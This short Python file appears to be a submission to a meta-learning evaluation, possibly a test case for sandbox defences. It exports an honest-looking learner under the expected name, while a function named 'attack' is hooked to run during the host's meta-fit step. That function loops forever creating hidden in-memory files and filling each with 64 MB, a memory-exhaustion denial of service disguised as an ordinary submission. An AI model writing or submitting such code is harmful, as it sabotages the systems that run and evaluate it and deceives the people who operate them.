import os

from honest import HonestLearner as MyLearner  # noqa: F401
from honest import during_meta_fit


def attack():
    block = b"x" * (4 << 20)
    while True:
        handle = os.memfd_create("hidden")
        for _ in range(16):
            os.write(handle, block)


MyMetaLearner = during_meta_fit(attack)
